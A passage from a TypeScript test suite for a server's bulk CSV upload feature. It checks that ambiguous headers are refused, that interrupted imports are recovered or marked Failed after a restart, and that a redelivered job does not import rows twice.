    assert.match(res.body.message, /cannot be read as JSON/)
    // A header that names a field twice: which cell would count? (before: the last, silently)
    const twice = await upload(tokens.admin, 'Name,email,Name\na,a@example.com,b\n', 'users.csv', 'text/csv')
    const refused = await request(server.url, 'POST', '/bulk-uploads', { token: tokens.admin, body: { UploadedBy: ids.admin, FileName: 'users.csv', Target: 'users', file_url: twice } })
    assert.equal(refused.status, 400)
    assert.match(refused.body.message, /cannot be read as CSV: the header names Name twice/)
    // A column and the dotted columns of the same field: the last written replaced the other (before: `Status.x` lost).
    for (const header of ['Status.x,Status', 'Status,Status.x']) {
      const both = await upload(tokens.admin, `ManagerId,AppointedDate,${header}\n${ids.maria},2034-01-01T09:00:00.000Z,x,Scheduled\n`, 'appointments.csv', 'text/csv')
      const res = await request(server.url, 'POST', '/bulk-uploads', { token: tokens.admin, body: { UploadedBy: ids.admin, FileName: 'appointments.csv', Target: 'appointments', file_url: both } })
      assert.equal(res.status, 400, header)
      assert.match(res.body.message, /cannot be read as CSV: the header names Status and Status\.x: Status is either one cell or the fields of its dotted columns, not both/)
    }
    const csv = await upload(tokens.admin, 'Name\nx\n', 'users.csv', 'text/csv')
    assert.equal((await request(server.url, 'POST', '/bulk-uploads', { token: tokens.admin, body: { UploadedBy: ids.admin, FileName: 'u.csv', file_url: csv } })).status, 422)
    const typed = await request(server.url, 'POST', '/bulk-uploads', { token: tokens.admin, body: { UploadedBy: ids.admin, FileName: 'u.csv', TotalRecords: 100 } })
    assert.equal(typed.status, 400)
    assert.match(typed.body.message, /read-only/)
  })
})

describe('bulk imports a stopped server left behind (in-process queue, embedded store)', function () {
  this.timeout(90_000)
  const tokens: Record<string, string> = {}
  const ids: Record<string, string> = {}

  it('at the next start, queues a queued import again as the user it is for and marks a running one Failed with what it did', async function () {
    if (serverStore !== 'embedded') this.skip() // instances on one MongoDB cannot tell another's running jobs from lost ones
    const first = await startServer('appointments')
    await loginAll(first.url, DEMO_USERS, tokens, ids)
    const uploads = first.app.service('bulk-uploads') as any
    const csv = ['ManagerId,AppointedDate', `${ids.maria},2033-03-01T09:00:00.000Z`, `${ids.omar},2033-03-02T09:00:00.000Z`].join('\n')
    // Uploaded by the Admin for Maria (`UploadedBy`): it runs as Maria (before: as the file's uploader after a restart).
    const { body: file } = await uploadFile(first.url, 'collection=bulk-uploads&field=file_url', csv, 'appointments.csv', 'text/csv', tokens.admin)
    // What a process killed at that moment leaves in the store (written beneath the hooks, so no job is queued here):
    // Maria's import queued but not begun, and an admin's stopped after one row.
    const queued = await uploads._create({ UploadedBy: ids.maria, FileName: 'appointments.csv', Target: 'appointments', file_url: file.url, Status: 'Queued', TotalRecords: 0, SuccessRecords: 0, ErrorRecords: 0, ErrorDetails: [] })
    const running = await uploads._create({ UploadedBy: ids.admin, FileName: 'users.csv', Target: 'users', Status: 'Running', TotalRecords: 1, SuccessRecords: 1, ErrorRecords: 0, ErrorDetails: [] })
    await first.close(false)

    // `quillbase seed` on that store seeds and starts nothing: it resumed both (the queued one then cut off as the
    // command ended, to be marked Interrupted at the next start).
    const seeded = await runCli(first.dataDir, 'seed')
    assert.match(seeded.out, /^not seeded: the store has users already/, seeded.err)
    const listed = path.join(first.dataDir, 'uploads.ndjson')
    assert.equal((await runCli(first.dataDir, 'export', 'bulk-uploads', '--out', listed, '--format', 'ndjson')).code, 0)
    const statuses = Object.fromEntries((await readFile(listed, 'utf8')).trim().split('\n').map((line) => JSON.parse(line)).map((u) => [u._id, u.Status]))
    assert.deepEqual([statuses[queued._id], statuses[running._id]], ['Queued', 'Running'], 'left for the next start')

    const second = await startServer('appointments', { dataDir: first.dataDir })
    try {
      const after = second.app.service('bulk-uploads') as any
      const interrupted = await after.get(running._id)
      assert.equal(interrupted.Status, 'Failed')
      assert.deepEqual([interrupted.TotalRecords, interrupted.SuccessRecords], [1, 1], 'what it did is kept')
      assert.match(interrupted.ErrorDetails.at(-1).Error, /^Interrupted: the server stopped while this import ran/)
      let record = await after.get(queued._id)
      for (let i = 0; i < 600 && !['Done', 'Failed'].includes(record.Status); i++) {
        await new Promise((resolve) => setTimeout(resolve, 50))
        record = await after.get(queued._id)
      }
      // Run as Maria: her own row is imported, Omar's is refused by her permissions.
      assert.deepEqual([record.Status, record.TotalRecords, record.SuccessRecords, record.ErrorRecords], ['Done', 2, 1, 1], JSON.stringify(record))
      assert.match(record.ErrorDetails[0].Error, /may not create/i)
      const imported = (await second.app.service('appointments').find({ paginate: false, query: { AppointedDate: { $gte: '2033-03-01T00:00:00.000Z', $lt: '2033-03-03T00:00:00.000Z' } } })) as any[]
      assert.deepEqual(imported.map((a) => a.ManagerId), [ids.maria])

      // A job delivered again for an import that is running already (a stalled worker's, on BullMQ) does not run its rows twice.
      const again = await after._create({ UploadedBy: ids.admin, FileName: 'users.csv', Target: 'users', file_url: file.url, Status: 'Running', TotalRecords: 0, SuccessRecords: 0, ErrorRecords: 0, ErrorDetails: [] })
      const job = await second.app.jobs.enqueue('import', { operation: 'bulk-uploads', id: String(again._id), target: 'appointments', format: 'csv' }, { userId: ids.admin })
      for (let i = 0; i < 600 && (await second.app.jobs.status(job)).state !== 'completed'; i++) await new Promise((resolve) => setTimeout(resolve, 50))
      const stopped = await after.get(again._id)
      assert.equal(stopped.Status, 'Failed')
      assert.match(stopped.ErrorDetails.at(-1).Error, /^Interrupted/)
      const rows = (await second.app.service('appointments').find({ paginate: false, query: { AppointedDate: { $gte: '2033-03-01T00:00:00.000Z', $lt: '2033-03-03T00:00:00.000Z' } } })) as any[]
      assert.equal(rows.length, 1, 'no row imported again')
    } finally {
      await second.close()
    }
  })
})
